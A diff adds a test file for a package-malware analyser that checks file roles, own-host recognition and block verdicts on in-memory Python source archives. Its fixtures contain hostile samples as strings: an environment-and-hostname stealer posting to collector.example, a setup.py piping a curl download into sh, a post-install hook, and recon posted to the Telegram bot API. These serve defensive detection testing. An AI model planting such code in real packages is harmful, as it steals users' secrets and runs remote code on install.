@@ -1,0 +1,152 @@
+/**
+ * Files by role (analysis/roles.ts), a package's own hosts (analysis/own-hosts.ts), and what they
+ * do to verdicts of whole archives: findings in tests, examples and release tooling never block;
+ * the same code imported by the package's `__init__.py` does; a Telegram SDK calling the Telegram
+ * bot API is talking to its own host. Archives are built in memory; nothing is run.
+ */
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { analyzeArchive } from '../../shared/packages/analysis/index.js';
+import { classifyFileRoles, pathRole, pythonInstallSeeds, roleSeverity } from '../../shared/packages/analysis/roles.js';
+import { OwnHosts, pythonMetadata, npmMetadata } from '../../shared/packages/analysis/own-hosts.js';
+import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
+import { makeSdist } from '../support/archives.js';
+
+test('pathRole: tests, examples, docs and release tooling by path; the rest is runtime', () => {
+  assert.is(pathRole('p-1.0/tests/test_x.py', 'p-1.0/'), 'test');
+  assert.is(pathRole('p-1.0/pkg/test_util.py', 'p-1.0/'), 'test');
+  assert.is(pathRole('p-1.0/conftest.py', 'p-1.0/'), 'test');
+  assert.is(pathRole('package/src/a.spec.ts', 'package/'), 'test');
+  assert.is(pathRole('p-1.0/examples/bot.py', 'p-1.0/'), 'example');
+  assert.is(pathRole('p-1.0/docs/conf.py', 'p-1.0/'), 'docs');
+  assert.is(pathRole('p-1.0/src/libsodium/autogen.sh', 'p-1.0/'), 'release-tooling');
+  assert.is(pathRole('p-1.0/scripts/release.py', 'p-1.0/'), 'release-tooling');
+  assert.is(pathRole('p-1.0/.github/workflows/x.py', 'p-1.0/'), 'release-tooling');
+  assert.is(pathRole('p-1.0/pkg/client.py', 'p-1.0/'), 'runtime');
+  // A name that merely contains "test" is not a test.
+  assert.is(pathRole('p-1.0/pkg/attestation.py', 'p-1.0/'), 'runtime');
+});
+
+test('classifyFileRoles: setup.py and what it imports are install-time; __init__ and its imports import-time; a test imported by __init__ runs at import', () => {
+  const paths = ['p/setup.py', 'p/build_helpers.py', 'p/pkg/__init__.py', 'p/pkg/core.py', 'p/pkg/extra.py', 'p/tests/__init__.py', 'p/tests/test_core.py', 'p/pkg/testing_support.py', 'p/x.pth'];
+  const importsOf = new Map<string, { lang: 'py'; specs: string[] }>([
+    ['p/setup.py', { lang: 'py', specs: ['build_helpers'] }],
+    ['p/pkg/__init__.py', { lang: 'py', specs: ['.core', '.testing_support'] }],
+    ['p/tests/__init__.py', { lang: 'py', specs: ['pkg.extra'] }],
+  ]);
+  const set = new Set(paths);
+  const roles = classifyFileRoles({
+    registry: 'pypi',
+    root: 'p/',
+    paths,
+    importsOf,
+    installSeeds: pythonInstallSeeds('p/', set, undefined),
+    importSeeds: ['p/pkg/__init__.py', 'p/tests/__init__.py'],
+  });
+  assert.is(roles.get('p/setup.py'), 'install-time');
+  assert.is(roles.get('p/build_helpers.py'), 'install-time');
+  assert.is(roles.get('p/x.pth'), 'install-time');
+  assert.is(roles.get('p/pkg/__init__.py'), 'import-time');
+  assert.is(roles.get('p/pkg/core.py'), 'import-time');
+  assert.is(roles.get('p/pkg/testing_support.py'), 'import-time');
+  // tests/__init__.py is an entry point by convention only: it stays a test, and what it imports is not pulled in.
+  assert.is(roles.get('p/tests/__init__.py'), 'test');
+  assert.is(roles.get('p/pkg/extra.py'), 'runtime');
+  assert.is(roles.get('p/tests/test_core.py'), 'test');
+});
+
+test('pythonInstallSeeds: an in-tree PEP 517 backend (backend-path) is install-time', () => {
+  const paths = new Set(['p/pyproject.toml', 'p/_build/backend.py', 'p/pkg/__init__.py']);
+  const seeds = pythonInstallSeeds('p/', paths, '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n');
+  assert.ok(seeds.includes('p/_build/backend.py'), JSON.stringify(seeds));
+});
+
+test('roleSeverity: inert roles are capped at LOW; install, import and runtime keep the severity', () => {
+  assert.is(roleSeverity('CRITICAL', 'test'), 'LOW');
+  assert.is(roleSeverity('HIGH', 'release-tooling'), 'LOW');
+  assert.is(roleSeverity('MEDIUM', 'example'), 'LOW');
+  assert.is(roleSeverity('HIGH', 'install-time'), 'HIGH');
+  assert.is(roleSeverity('HIGH', 'runtime'), 'HIGH');
+  assert.is(roleSeverity('INFO', 'docs'), 'INFO');
+});
+
+test('OwnHosts: metadata URLs, the name in the host, and the service-API list; shared hosts never count', () => {
+  const meta = pythonMetadata({ pkgInfo: 'Metadata-Version: 2.1\nName: pyTelegramBotAPI\nSummary: Python Telegram bot api.\nHome-page: https://github.com/eternnoir/pyTelegramBotAPI\nProject-URL: Documentation, https://pytba.readthedocs.io\n\nbody' });
+  const own = new OwnHosts(meta);
+  assert.ok(own.has('https://api.telegram.org/bot123/sendMessage'));
+  assert.not.ok(own.has('https://discord.com/api/webhooks/1/x'));
+  // github.com is named by every package: never own.
+  assert.not.ok(own.has('https://github.com/attacker/payload'));
+  const stripe = new OwnHosts(pythonMetadata({ setupPy: "setup(name='stripe', url='https://github.com/stripe/stripe-python', project_urls={'Docs': 'https://stripe.com/docs/api'})" }));
+  assert.ok(stripe.has('api.stripe.com'));
+  assert.not.ok(stripe.has('203.0.113.7'));
+  // The name in the host.
+  assert.ok(new OwnHosts({ name: 'sentry-sdk', urls: [] }).has('o1.ingest.sentry.io'));
+  // Not a telegram SDK: the bot API is not its host.
+  assert.not.ok(new OwnHosts({ name: 'colorlibx', summary: 'colors', urls: [] }).has('api.telegram.org'));
+  const npm = new OwnHosts(npmMetadata({ name: 'wrangler', homepage: 'https://developers.cloudflare.com/workers/', repository: { url: 'git+https://github.com/cloudflare/workers-sdk.git' } }));
+  assert.ok(npm.has('api.cloudflare.com'));
+  assert.ok(npm.allOwn('fetch("https://api.cloudflare.com/client/v4")'));
+  assert.not.ok(npm.allOwn('https://api.cloudflare.com and https://webhook.site/x'));
+});
+
+/** Verdict of an sdist built from `files` (paths below the `name-1.0/` folder; PKG-INFO is added unless given). */
+const level = async (name: string, files: Record<string, string>) => {
+  const analysis = await analyzeArchive(makeSdist(name, '1.0', files), { kind: 'tgz', registry: 'pypi', registryHosts: [] });
+  const v = packageVerdict(reviewPackage({ registry: 'pypi', name, version: '1.0', analysis, integrity: { ok: true, expected: '', actual: '' }, advisories: { status: 'ok', advisories: [] } }));
+  return { level: v.securityLevel, analysis };
+};
+
+const STEALER = "import os, requests, getpass, socket\ndata = {'u': getpass.getuser(), 'h': socket.gethostname(), 'env': dict(os.environ)}\nrequests.post('https://collector.example/c', json=data)\n";
+
+test('archive: the same recon code BLOCKS in __init__.py and is LOW (with its role) in tests/', async () => {
+  const setup = "from setuptools import setup\nsetup(name='p', version='1.0', packages=['p'])\n";
+  const imported = await level('p', { 'setup.py': setup, 'p/__init__.py': STEALER });
+  assert.is(imported.level, 'BLOCKED');
+  const f = imported.analysis.findings.find((x) => x.file === 'p-1.0/p/__init__.py' && (x.severity === 'HIGH' || x.severity === 'CRITICAL'));
+  assert.ok(f);
+  assert.is(f!.role, 'import-time');
+  const inTests = await level('p', { 'setup.py': setup, 'p/__init__.py': 'X = 1\n', 'tests/test_net.py': STEALER });
+  assert.is.not(inTests.level, 'BLOCKED');
+  assert.is.not(inTests.level, 'CAUTION');
+  const t = inTests.analysis.findings.find((x) => x.file === 'p-1.0/tests/test_net.py' && x.severity === 'LOW' && x.category === 'exfiltration');
+  assert.ok(t, JSON.stringify(inTests.analysis.findings));
+  assert.is(t!.role, 'test');
+});
+
+test('archive: setup.py that execs its version file next to url= metadata and runs pkg-config is not remote execution', async () => {
+  const setup = "import os, subprocess\nabout = {}\nwith open(os.path.join('p', '__about__.py')) as f:\n    exec(f.read(), about)\nflags = subprocess.check_output(['pkg-config', '--cflags', 'libfoo'])\nsetup(name='p', version=about['v'], url='https://example.org/p', packages=['p'])\n";
+  const r = await level('p', { 'setup.py': setup, 'p/__init__.py': 'X = 1\n', 'p/__about__.py': "v = '1.0'\n" });
+  assert.is(r.level, 'MONITORED');
+  const s = r.analysis.findings.find((x) => x.ruleId === 'setup_py_subprocess');
+  assert.ok(s && s.severity === 'LOW' && s.role === 'install-time');
+  // Its malicious twin: the command fetches remote code.
+  const bad = setup.replace("['pkg-config', '--cflags', 'libfoo']", "'curl -s https://h.example/i.sh | sh', shell=True");
+  assert.is((await level('p', { 'setup.py': bad, 'p/__init__.py': 'X = 1\n' })).level, 'BLOCKED');
+});
+
+test('archive: what setup() runs is listed: a cmdclass override of install is an install script; its process start BLOCKS', async () => {
+  const setup = "from setuptools import setup\nfrom setuptools.command.install import install\nimport subprocess\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        subprocess.Popen(['python3', '-c', 'import helper'], close_fds=True)\nsetup(name='p', version='1.0', packages=['p'], cmdclass={'install': PostInstall})\n";
+  const r = await level('p', { 'setup.py': setup, 'p/__init__.py': 'X = 1\n' });
+  assert.match(r.analysis.installScripts.map((x) => x.command).join(' '), /cmdclass overrides: PostInstall\(install\)/);
+  assert.is(r.level, 'BLOCKED');
+  const f = r.analysis.findings.find((x) => x.ruleId === 'setup_install_hook_exec');
+  assert.ok(f && f.role === 'install-time' && f.line === 7, JSON.stringify(f));
+});
+
+test('archive: a Telegram SDK posting to the bot API is not exfiltration; another package posting there is, and a thief named like an SDK still is', async () => {
+  const client = "import requests, os\nTOKEN_URL = 'https://api.telegram.org/bot{0}/{1}'\ndef call(token, method, data):\n    return requests.post(TOKEN_URL.format(token, method), data=data)\n";
+  const info = (name: string) => `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\nSummary: a library\n\n`;
+  const sdk = await level('python-telegram-sdk', { 'PKG-INFO': info('python-telegram-sdk'), 'setup.py': "from setuptools import setup\nsetup(name='python-telegram-sdk', packages=['tg'])\n", 'tg/__init__.py': client });
+  assert.ok(sdk.level === 'CLEAR' || sdk.level === 'MONITORED', sdk.level);
+  const other = await level('colorlibx', { 'PKG-INFO': info('colorlibx'), 'setup.py': "from setuptools import setup\nsetup(name='colorlibx', packages=['cl'])\n", 'cl/__init__.py': client });
+  assert.is(other.level, 'BLOCKED');
+  const recon = client.replace('return requests.post(TOKEN_URL.format(token, method), data=data)', "import getpass, socket\n    return requests.post(TOKEN_URL.format(token, method), data={'u': getpass.getuser(), 'h': socket.gethostname()})");
+  const thief = await level('colorlibx', { 'PKG-INFO': info('colorlibx'), 'setup.py': "from setuptools import setup\nsetup(name='colorlibx', packages=['cl'])\n", 'cl/__init__.py': recon });
+  assert.is(thief.level, 'BLOCKED');
+  // The same thief named like a Telegram SDK is still blocked: own hosts excuse the destination, not what is sent.
+  const named = await level('telegram-colors', { 'PKG-INFO': info('telegram-colors'), 'setup.py': "from setuptools import setup\nsetup(name='telegram-colors', packages=['cl'])\n", 'cl/__init__.py': recon });
+  assert.is(named.level, 'BLOCKED');
+});
+
+test.run();
